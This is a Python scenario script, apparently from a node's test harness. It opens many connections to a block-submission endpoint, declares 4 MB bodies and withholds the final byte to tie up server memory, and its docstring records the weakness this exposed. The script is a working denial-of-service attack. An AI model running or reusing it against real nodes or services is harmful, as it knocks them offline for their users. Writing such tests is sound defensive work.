"""One address submits blocks of the largest size over many connections, and withholds the last bytes.

Before: as many bodies as there are connections were in memory, for ten seconds each.
"""

from contextlib import suppress

import wire

SIZES = {"small": 100, "full": 400}
BODY = 4_000_000


def run(node, size, stop):
    top = wire.head("POST", "/v1/blocks", node.api, "Content-Type: text/plain", f"Content-Length: {BODY}")
    while not stop.is_set():
        streams = []
        for _ in range(size):
            with suppress(OSError):
                stream = wire.connect(node.api, wire.ATTACKER, timeout=2)
                stream.sendall(top)
                streams.append([stream, 0])
            if stop.is_set():
                return
        part, pending = b"0" * 65536, list(streams)
        while pending and not stop.wait(0.01):
            for entry in list(pending):
                stream, sent = entry
                try:
                    stream.setblocking(False)
                    entry[1] += stream.send(part[: max(0, BODY - 1 - sent)])
                except BlockingIOError:
                    continue
                except OSError:
                    pending.remove(entry)
                    continue
                if entry[1] >= BODY - 1:
                    pending.remove(entry)
        stop.wait(5)
        for stream, _ in streams:
            stream.close()
